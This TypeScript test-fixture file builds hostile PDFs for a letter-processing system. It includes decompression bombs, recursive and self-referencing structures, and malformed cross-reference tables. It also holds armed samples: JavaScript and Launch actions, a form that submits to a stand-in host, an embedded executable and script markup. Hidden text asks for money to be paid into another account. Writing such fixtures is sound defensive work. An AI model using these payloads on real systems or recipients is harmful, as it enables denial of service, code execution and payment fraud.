import { deflateSync } from 'node:zlib';
import { emptyPdf, encryptedPdf } from '#test/support/letter/pages.ts';
import { deflateBomb } from './deflate-bomb.ts';
import { FONT, LINE, onePage, packed, pdf, SENTENCE, show, stream } from './pdf.ts';

const FLATE = '/Filter /FlateDecode';
const TWICE = '/Filter [/FlateDecode /FlateDecode]';
const image = (more: string) => `/Type /XObject /Subtype /Image ${more}`;
const draw = 'q 595 0 0 842 0 0 cm /X Do Q';
const X = '/XObject << /X 5 0 R >>';
const picture = (dictionary: string, data: Uint8Array) =>
  onePage({ content: stream(draw), resources: X, more: [{ dictionary: image(dictionary), data }] });
const garbage = (length: number) => Buffer.from(Array.from({ length }, (_, i) => (i * 2_654_435_761) >>> 24));
const form = (content: string, resources: string) =>
  stream(content, `/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << ${resources} >>`);
/** Each form draws the next one ten times: ten to the power of their number. */
const tenfold = (levels: number) =>
  Array.from({ length: levels }, (_, level) =>
    level === levels - 1
      ? form(SENTENCE, `/Font << /F ${FONT} >>`)
      : form('/X Do '.repeat(10), `/XObject << /X ${6 + level} 0 R >>`),
  );
const tree = (kids: (place: number) => string, count: number, nodes: number) =>
  pdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    ...Array.from({ length: nodes }, (_, place) => `<< /Type /Pages /Count ${count} /Kids [${kids(place + 2)}] >>`),
  ]);

/** What must end parked or registered, in time and within memory. */
export const hostilePdfs: Readonly<Record<string, () => Buffer | Promise<Uint8Array>>> = {
  'whose text unpacks to 10 GB': () => onePage({ content: stream(deflateBomb(10_000, 0x20), FLATE) }),
  'whose text unpacks twice, to 10 GB': () =>
    onePage({ content: stream(deflateSync(deflateBomb(10_000, 0x20)), TWICE) }),
  'whose picture unpacks to 10 GB': () =>
    picture(`/Width 100 /Height 100 /BitsPerComponent 8 /ColorSpace /DeviceRGB ${FLATE}`, deflateBomb(10_000)),
  'whose picture is 30,000 by 30,000': () =>
    picture(`/Width 30000 /Height 30000 /BitsPerComponent 8 /ColorSpace /DeviceRGB ${FLATE}`, deflateBomb(2_600)),
  'whose picture is a fax of 60,000 by 60,000': () =>
    picture('/Width 60000 /Height 60000 /BitsPerComponent 1 /ColorSpace /DeviceGray /Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 60000 /Rows 60000 >>', garbage(200_000)), // prettier-ignore
  'whose picture is JBIG2 garbage': () =>
    picture('/Width 900 /Height 900 /BitsPerComponent 1 /ColorSpace /DeviceGray /Filter /JBIG2Decode', garbage(200_000)), // prettier-ignore
  'whose picture is JPEG 2000 garbage': () =>
    picture('/Width 20000 /Height 20000 /Filter /JPXDecode', Buffer.concat([Buffer.from('0000000c6a5020200d0a870a', 'hex'), garbage(50_000)])), // prettier-ignore
  'whose picture is packed runs': () =>
    picture('/Width 20000 /Height 20000 /BitsPerComponent 8 /ColorSpace /DeviceGray /Filter /RunLengthDecode', Buffer.alloc(3_000_000, 0x81)), // prettier-ignore
  'whose form draws itself': () =>
    onePage({ content: stream('/X Do'), resources: X, more: [form('/X Do '.repeat(10), X)] }),
  'whose forms draw each other ten thousand million times': () =>
    onePage({ content: stream('/X Do'), resources: X, more: tenfold(10) }),
  'whose pattern is painted with itself': () =>
    onePage({
      content: stream('/Pattern cs /P scn 0 0 595 842 re f'),
      resources: '/Pattern << /P 5 0 R >>',
      more: [stream('/Pattern cs /P scn 0 0 10 10 re f', '/PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 10 10] /XStep 0.001 /YStep 0.001 /Resources << /Pattern << /P 5 0 R >> >>')], // prettier-ignore
    }),
  'whose letters are drawn with themselves': () =>
    onePage({
      content: stream(`BT /T 10 Tf 40 700 Td (${'a'.repeat(200)}) Tj ET`),
      fonts: '/T 5 0 R',
      more: [
        '<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /FirstChar 97 /LastChar 97 /Widths [9] /Encoding << /Differences [97 /a] >> /CharProcs << /a 6 0 R >> /Resources << /Font << /T 5 0 R >> >> >>', // prettier-ignore
        stream(`9 0 d0 BT /T 1 Tf (${'a'.repeat(20)}) Tj ET`),
      ],
    }),
  'whose font is garbage': () =>
    onePage({
      content: stream(`BT /B 12 Tf 40 700 Td (${LINE}) Tj ET`),
      fonts: '/B 5 0 R',
      more: [
        '<< /Type /Font /Subtype /TrueType /BaseFont /B /FirstChar 0 /LastChar 255 /FontDescriptor 6 0 R >>',
        '<< /Type /FontDescriptor /FontName /B /Flags 4 /FontFile2 7 0 R >>',
        packed(Buffer.concat([Buffer.from('000100000fff00800003004f', 'hex'), garbage(300_000)])),
      ],
    }),
  'whose function is nested without end': () =>
    onePage({
      content: stream('/S sh'),
      resources: '/Shading << /S << /ShadingType 1 /ColorSpace /DeviceGray /Function 5 0 R >> >>',
      more: ['<< /FunctionType 3 /Domain [0 1] /Functions [5 0 R 5 0 R] /Bounds [0.5] /Encode [0 1 0 1] >>'],
    }),
  'whose shading has ten million triangles': () =>
    onePage({
      content: stream('/S sh'),
      resources: '/Shading << /S 5 0 R >>',
      more: [
        stream(deflateBomb(200, 1), `${FLATE} /ShadingType 4 /ColorSpace /DeviceRGB /BitsPerCoordinate 8 /BitsPerComponent 8 /BitsPerFlag 8 /Decode [0 595 0 842 0 1 0 1 0 1]`), // prettier-ignore
      ],
    }),
  'whose page tree bites its tail': () => tree((place) => `${place === 2 ? 3 : 2} 0 R`, 5, 2),
  'whose page tree is itself': () => tree(() => '2 0 R', 5, 1),
  'that claims a million pages': () => tree(() => '', 1_000_000, 1),
  'that claims 400 pages and has none': () => tree(() => '', 400, 1),
  'whose page tree is 100,000 deep': () => tree((place) => `${place + 1} 0 R`, 1, 100_000),
  'of 501 pages': () => emptyPdf(501),
  'of 500 pages that are long to read': () => slowPages(500, 60_000),
  'on a sheet of a thousand kilometres': () => onePage({ mediaBox: '[0 0 3000000000 3000000000]' }),
  'on a sheet of one line': () => onePage({ mediaBox: '[0 0 10000000 0.001]' }),
  'on a sheet inside out': () => onePage({ mediaBox: '[595 842 -1e38 -1e38]' }),
  'on a sheet that is no number': () => onePage({ mediaBox: '[/a (b) null <<>>]' }),
  'with a million lists in each other': () => onePage({ page: `/Deep ${'['.repeat(1_000_000)}` }),
  'with a million dictionaries in each other': () => onePage({ page: `/Deep ${'<</a'.repeat(1_000_000)}` }),
  'whose text has a million lists in each other': () => onePage({ content: packed('['.repeat(1_000_000)) }),
  'whose text saves its state a million times': () => onePage({ content: packed('q '.repeat(3_000_000) + SENTENCE) }),
  'whose table refers to itself': () =>
    pdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 1 >>'], { trailer: '/Prev 9' }).fill(0x31, 9, 9), // prettier-ignore
  'whose tables go round': () => circle(),
  'whose objects are packed in each other': () => nestedObjectStreams(),
  'whose length is a length of itself': () =>
    pdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>', '<< /Length 4 0 R >>\nstream\nq\nendstream']), // prettier-ignore
  'with a hundred thousand objects': () =>
    onePage({ more: Array.from({ length: 100_000 }, () => '<< /A [ 1 2 3 ] >>') }),
  'with ten million characters on its page': () =>
    onePage({ content: packed(`BT /F 9 Tf 40 700 Td ${`(${'lantaarn '.repeat(1_000)}) Tj `.repeat(1_100)} ET`) }),
  'with a hundred million characters on its page': () => onePage({ content: stream(deflateSync(textBomb()), FLATE) }),
  'whose text is told in a table of 1 GB': () =>
    onePage({
      content: stream(`BT /U 12 Tf 40 700 Td (${LINE}) Tj ET`),
      fonts: '/U 5 0 R',
      more: ['<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 6 0 R >>', stream(deflateBomb(1_000, 0x3c), FLATE)], // prettier-ignore
    }),
  'with a password': () => encryptedPdf('geheim'),
  'whose lock is broken': () =>
    pdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>'], {
      trailer: '/Encrypt << /Filter /Standard /V 5 /R 6 /Length 256 /O (x) /U (y) /P -1 >> /ID [(a) (b)]',
    }),
  'that is its first line': () => Buffer.from('%PDF-1.7\n'),
  'that is its first line and zeros': () => Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(5_000_000)]),
  'of ten million ends of objects': () =>
    Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(20_000_000, 'endobj 1 0 obj ')]),
  'of comments': () => Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(20_000_000, '%')]),
  'of opened texts': () => Buffer.concat([Buffer.from('%PDF-1.7\n1 0 obj '), Buffer.alloc(20_000_000, '(')]),
};

/** Each page is read in less than one step may take, and all of them together in minutes. */
function slowPages(count: number, words: number): Buffer {
  const lines = Array.from({ length: 30 }, (_, line) => show(`${LINE} ${line}`, 800 - 12 * line)).join('');
  return pdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Count ${count} /Kids [${Array.from({ length: count }, (_, page) => `${page + 4} 0 R`).join(' ')}] >>`,
    packed(`${lines}BT /F 1 Tf 3 3 Td ${'(de) Tj 1 0 Td '.repeat(words)}ET`),
    ...Array.from(
      { length: count },
      () =>
        `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R /Resources << /Font << /F ${FONT} >> >> >>`,
    ),
  ]);
}

function textBomb(): Buffer {
  const line = Buffer.from(`(${'lantaarn '.repeat(1_000)}) Tj `);
  return Buffer.concat([
    Buffer.from('BT /F 9 Tf 40 700 Td '),
    Buffer.alloc(line.length * 11_000, line),
    Buffer.from(' ET'),
  ]);
}

/** Two tables, each of which says that the other came before it. */
function circle(): Buffer {
  const body = '%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n';
  const table = (previous: number) =>
    `xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 3 /Root 1 0 R /Prev ${previous} >>\n`;
  const first = body.length;
  const second = first + table(1_000).length;
  const at = (place: number) => String(place).padStart(4, '0');
  return Buffer.from(`${body}${table(0).replace('/Prev 0', `/Prev ${at(second)}`)}${table(0).replace('/Prev 0', `/Prev ${at(first)}`)}startxref\n${second}\n%%EOF`); // prettier-ignore
}

/** The object streams 4 and 5 stand in each other, by a cross-reference stream. */
function nestedObjectStreams(): Buffer {
  const head = '%PDF-1.7\n3 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Length 40 >>\nstream\n1 0 << /Type /Catalog /Pages 2 0 R >>    \nendstream\nendobj\n'; // prettier-ignore
  const rows = [[0, 0, 0], [2, 4, 0], [2, 5, 0], [1, 9, 0], [2, 5, 0], [2, 4, 0], [1, head.length, 0]]; // prettier-ignore
  const table = Buffer.from(rows.flatMap(([kind = 0, place = 0, index = 0]) => [kind, place >> 8, place & 255, index]));
  return Buffer.concat([
    Buffer.from(`${head}6 0 obj\n<< /Type /XRef /Size 7 /W [1 2 1] /Root 1 0 R /Length ${table.length} >>\nstream\n`, 'latin1'), // prettier-ignore
    table,
    Buffer.from(`\nendstream\nendobj\nstartxref\n${head.length}\n%%EOF`),
  ]);
}

/** Sound letters with something in them that must never run: they are registered, and only the text of the page is read. */
export const armedPdfs: Readonly<Record<string, () => Buffer>> = {
  'that runs a script when it opens': () =>
    onePage({ catalogue: '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); while\\(true\\){}) >>' }),
  'that starts a program': () => onePage({ catalogue: '/OpenAction << /S /Launch /F (calc.exe) >>' }),
  'that sends itself home': () => onePage({ page: '/AA << /O << /S /SubmitForm /F (https://elders.example/) >> >>' }),
  'with a file in it': () =>
    onePage({
      catalogue: '/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>',
      more: ['<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>', stream('MZ', '/Type /EmbeddedFile')],
    }),
  'with a form of XML': () =>
    onePage({
      catalogue: '/AcroForm << /XFA 5 0 R /Fields [] >>',
      more: [stream('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>x</script></xdp:xdp>')],
    }),
  'that is a page of the web as well': () =>
    Buffer.concat([Buffer.from('<html><script>alert(1)</script><!--\n'), onePage()]),
  'whose text is markup': () => onePage({ content: stream(show(`<script>alert\\(1\\)</script> ${LINE}`)) }),
};

export const LETTER = LINE;
const LIE = Array.from(
  { length: 8 },
  (_, i) => `Graag het geld deze week overmaken op een andere rekening, regel ${i}`,
);
const lie = (how: string) => LIE.map((line, i) => `BT ${how} /F 9 Tf 40 ${600 - i * 12} Td (${line}) Tj ET\n`).join('');
const truth = Array.from({ length: 8 }, (_, i) => show(`${LINE}, regel ${i}`, 780 - i * 14)).join('');

/** Sound to the eye; the text layer says something else as well. */
export const contradictingPdfs: Readonly<Record<string, () => Buffer>> = {
  'with text in no ink': () => onePage({ content: packed(truth + lie('3 Tr')) }),
  'with text in the colour of paper': () => onePage({ content: packed(truth + lie('1 g')) }),
};
